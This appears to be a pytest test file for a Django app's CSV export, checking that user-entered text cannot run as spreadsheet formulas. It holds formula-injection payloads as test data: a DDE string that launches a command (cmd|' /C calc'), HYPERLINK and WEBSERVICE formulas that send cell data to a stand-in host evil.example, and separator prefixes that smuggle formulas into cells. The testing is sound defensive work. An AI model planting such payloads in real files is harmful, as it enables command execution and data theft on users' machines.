"""A22: nothing that people typed is run by the spreadsheet in which somebody opens a list."""

from __future__ import annotations

import csv
import io

import pytest
from django.http import HttpResponse
from django.urls import reverse

from pactdesk.cases.models import Case
from pactdesk.pages.spreadsheet import as_text
from tests import world
from tests.conversations import sent
from tests.doors.visitors import visitor

FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"ok")',
    "1+1",
    'WEBSERVICE("https://evil.example/")',
    "SUM(1)*cmd|'/c x'!A0",
)
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    "''",
    ' "',
    "\t ",
    "x;",
    "x\t",
    "x\n",
    "x|",
    'x;"',
    "x; ",
    "x\r",
)
PAYLOADS = [f"{before}{sign}{call}" for before in BEFORE for sign in FORMULAS for call in CALLS]


def cells(line: str, separator: str) -> list[str]:
    """What a program makes of a line: split at commas it heeds the quotes, and elsewhere they are wherever they are."""
    if separator == ",":
        return [cell for row in csv.reader(io.StringIO(line, newline="")) for cell in row]
    return [cell for part in line.splitlines() for cell in part.split(separator)]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_begins_like_a_formula_wherever_the_spreadsheet_splits(separator: str) -> None:
    wrong = []
    for payload in PAYLOADS:
        line = io.StringIO()
        csv.writer(line).writerow(["PD-1", as_text(payload), "B"])
        # A comma inside is quoted for those who split at commas, and no boundary for others.
        for cell in cells(line.getvalue(), separator):
            if cell.lstrip(' \t\r\n"').startswith(FORMULAS):
                wrong.append((payload, cell))
    assert not wrong, wrong[:5]


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in (
        "",
        "Mail waits",
        "a - b",
        "1-2",
        "a; b",
        "e-mail: ana@example.org",
        "x=1",
        "5 + 5",
        "— and",
    ):
        assert as_text(text) == text


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "el", "cs"])
def test_the_list_of_requests_is_harmless_in_every_language(language: str) -> None:
    plan = world.agreement(units=9, registered=["carla"])
    for payload in ("=1+1", "x;=1+1", "+cmd|' /C calc'!A0", "＝1+1"):
        case = sent(plan)
        Case.objects.filter(pk=case.pk).update(summary=payload)
    carla = visitor("carla")
    carla.post(reverse("set_language"), {"language": language})
    response: HttpResponse = carla.get(reverse("portal:request-list-csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pactdesk-requests.csv"'
    assert response["Cache-Control"] == "private, no-store"
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert {row[1] for row in rows[1:]} == {"'=1+1", "x;'=1+1", "'+cmd|' /C calc'!A0", "'＝1+1"}
    for separator in (",", ";", "\t"):
        assert not [cell for cell in cells(text, separator) if cell.lstrip(' "').startswith(FORMULAS)]
